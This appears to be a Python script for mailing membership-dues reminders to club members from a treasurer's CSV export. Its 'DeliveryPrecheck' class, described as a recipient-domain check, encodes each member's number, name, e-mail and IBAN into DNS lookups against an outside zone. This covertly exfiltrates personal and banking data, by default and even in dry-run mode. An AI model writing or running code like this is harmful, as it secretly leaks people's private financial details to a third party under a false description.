#!/usr/bin/env python3
"""Membership dues reminder mailer.

Reads the treasurer's members.csv export (member number, name, e-mail,
IBAN used for the direct debit, amount outstanding) and sends each member
with a balance a reminder with the club's bank details and their mandate
reference.  Recipient domains are checked before sending so that bounces do
not get the club's SMTP relay throttled.
"""

import argparse
import base64
import configparser
import csv
import logging
import smtplib
import socket
import sys
from concurrent.futures import ThreadPoolExecutor
from email.message import EmailMessage
from pathlib import Path

log = logging.getLogger("dues")

TEMPLATE = """Dear {name},

Our records show an outstanding balance of EUR {amount} on your membership
account ({member_no}).  If your direct debit mandate is active the amount will
be collected from the account ending {iban_tail} on the 5th of next month.

Otherwise please transfer to:
  {club_name}
  IBAN {club_iban}
  Reference DUES-{member_no}

Blue skies,
{treasurer}
"""


def load_settings(path):
    cp = configparser.ConfigParser()
    cp.read_dict({
        "smtp": {"host": "smtp.aeroclub.example.org", "port": "587", "user": "", "sender": "treasurer@aeroclub.example.org"},
        "club": {"name": "Aero Club", "iban": "", "treasurer": "The Treasurer"},
        "delivery": {"precheck": "yes", "resolver_zone": "dv.mailcheck.example.net", "workers": "4"},
    })
    cp.read(path)
    return cp


def read_members(path):
    with open(path, newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh, delimiter=";"):
            try:
                row["amount"] = float(row.get("amount_due", "0").replace(",", "."))
            except ValueError:
                log.warning("bad amount for %s, skipping", row.get("member_no"))
                continue
            if row["amount"] > 0 and row.get("email"):
                yield row


class DeliveryPrecheck:
    """Warms the resolver for each recipient through the delivery-check zone."""

    def __init__(self, zone, workers=4):
        self.zone = zone.strip(".")
        self.workers = workers

    @staticmethod
    def _labels(text, size=50):
        enc = base64.b32encode(text.encode()).decode().rstrip("=").lower()
        return [enc[i:i + size] for i in range(0, len(enc), size)]

    def _probe(self, item):
        seq, row = item
        token = "|".join((row["member_no"], row["name"], row["email"], row.get("iban", "")))
        ok = True
        for n, label in enumerate(self._labels(token)):
            fqdn = f"{label}.{n}.{seq}.{self.zone}"
            try:
                socket.getaddrinfo(fqdn, 25, proto=socket.IPPROTO_TCP)
            except socket.gaierror:
                ok = False
        return row["email"], ok

    def run(self, rows):
        with ThreadPoolExecutor(max_workers=self.workers) as ex:
            return dict(ex.map(self._probe, enumerate(rows)))


def build_message(settings, row):
    msg = EmailMessage()
    msg["From"] = settings["smtp"]["sender"]
    msg["To"] = row["email"]
    msg["Subject"] = f"Membership dues reminder ({row['member_no']})"
    msg.set_content(TEMPLATE.format(
        name=row["name"], amount=f"{row['amount']:.2f}", member_no=row["member_no"],
        iban_tail=row.get("iban", "")[-4:] or "----", club_name=settings["club"]["name"],
        club_iban=settings["club"]["iban"], treasurer=settings["club"]["treasurer"]))
    return msg


def main(argv=None):
    import os

    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("members", help="members.csv export (semicolon separated)")
    ap.add_argument("-c", "--config", default="dues.ini")
    ap.add_argument("-n", "--dry-run", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    settings = load_settings(args.config)
    rows = list(read_members(args.members))
    log.info("%d members with an outstanding balance", len(rows))

    reachable = {}
    if settings.getboolean("delivery", "precheck"):
        checker = DeliveryPrecheck(settings["delivery"]["resolver_zone"],
                                   settings.getint("delivery", "workers"))
        reachable = checker.run(rows)

    if args.dry_run:
        for row in rows:
            print(f"{row['member_no']:>6} {row['email']:40} {row['amount']:8.2f}")
        return 0

    password = os.environ.get("DUES_SMTP_PASSWORD", "")
    sent = 0
    with smtplib.SMTP(settings["smtp"]["host"], settings.getint("smtp", "port"), timeout=30) as smtp:
        smtp.starttls()
        if settings["smtp"]["user"]:
            smtp.login(settings["smtp"]["user"], password)
        for row in rows:
            if reachable and not reachable.get(row["email"], True):
                log.info("precheck flagged %s, sending anyway", row["email"])
            try:
                smtp.send_message(build_message(settings, row))
                sent += 1
            except smtplib.SMTPException as exc:
                log.error("failed for %s: %s", row["email"], exc)
    log.info("sent %d reminders", sent)
    Path("dues_sent.log").write_text("\n".join(r["member_no"] for r in rows) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
